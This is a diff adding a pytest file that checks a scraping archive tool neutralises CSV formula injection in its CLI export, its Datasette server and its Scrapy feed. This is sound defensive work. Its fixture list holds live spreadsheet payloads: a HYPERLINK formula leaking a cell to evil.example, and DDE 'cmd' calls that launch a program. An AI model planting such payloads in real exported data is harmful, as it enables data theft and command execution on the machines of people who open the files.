@@ -1,0 +1,89 @@
+"""Every CSV the tool writes opens in a spreadsheet as text: a scraped cell that starts like a formula
+(= + - @, tab, CR) gets a leading ' (OWASP), unless `export --raw-csv` asks for the bytes as scraped."""
+
+from __future__ import annotations
+
+import asyncio
+import csv
+import io
+
+import pytest
+from conftest import cli
+from test_output_safety import crawl, entry
+
+from archive.store import Archive
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.fixture
+def formulas(tmp_path):
+    path = tmp_path / "f.db"
+    with Archive(path) as archive:
+        crawl(
+            archive,
+            [entry(f"WCMS_{n}", title=text, organisers=[text, "ILO"], position=n) for n, text in enumerate(FORMULAS, 1)]
+            + [entry("WCMS_99", title="A plain title", date_text="-", credit_year=-5, position=-3)],
+        )
+    return path
+
+
+def rows(text: str) -> dict[str, dict]:
+    return {row["entry_id"]: row for row in csv.DictReader(io.StringIO(text, newline=""))}
+
+
+def test_export_csv_makes_formulas_text(formulas):
+    out = rows(cli("export", "--db", formulas, "--format", "csv", check=0).stdout)
+    for n, text in enumerate(FORMULAS, 1):
+        assert out[f"WCMS_{n}"]["title"] == "'" + text
+        assert out[f"WCMS_{n}"]["organisers"] == f"'{text}; ILO"
+    plain = out["WCMS_99"]
+    assert plain["title"] == "A plain title" and plain["date_text"] == "'-"  # a string: guarded, as OWASP says
+    assert plain["position"] == "-3" and plain["credit_year"] == "-5"  # numbers are numbers
+
+
+def test_raw_csv_keeps_the_bytes_as_scraped(formulas):
+    out = rows(cli("export", "--db", formulas, "--format", "csv", "--raw-csv", check=0).stdout)
+    assert [out[f"WCMS_{n}"]["title"] for n in range(1, len(FORMULAS) + 1)] == FORMULAS
+    assert out["WCMS_99"]["date_text"] == "-"
+    refused = cli("export", "--db", formulas, "--format", "json", "--raw-csv")
+    assert refused.returncode == 2 and "--raw-csv" in refused.stderr
+
+
+def test_serve_csv_makes_formulas_text(formulas):
+    from archive.serve import build
+
+    async def fetch(path):
+        datasette = build(str(formulas))
+        await datasette.invoke_startup()
+        return (await datasette.client.get(path)).text
+
+    table = rows(asyncio.run(fetch("/f/entries.csv?_size=max")))
+    query = rows(asyncio.run(fetch("/f.csv?sql=select+entry_id,title+from+entries")))
+    for n, text in enumerate(FORMULAS, 1):
+        assert table[f"WCMS_{n}"]["title"] == query[f"WCMS_{n}"]["title"] == "'" + text
+    assert table["WCMS_99"]["position"] == "-3"
+
+
+def test_scrapy_csv_feed_makes_formulas_text():
+    from scrapy.utils.misc import load_object
+
+    from crawler.run import project_settings
+
+    # `scrapy crawl ... -O items.csv` writes with the project's csv exporter.
+    FormulaSafeCsvItemExporter = load_object(project_settings().getwithbase("FEED_EXPORTERS")["csv"])
+    out = io.BytesIO()
+    exporter = FormulaSafeCsvItemExporter(out, fields_to_export=["title", "position"])
+    exporter.start_exporting()
+    for position, text in enumerate(FORMULAS):
+        exporter.export_item({"title": text, "position": -position})
+    exporter.finish_exporting()
+    got = list(csv.DictReader(io.StringIO(out.getvalue().decode(), newline="")))
+    assert [row["title"] for row in got] == ["'" + text for text in FORMULAS]
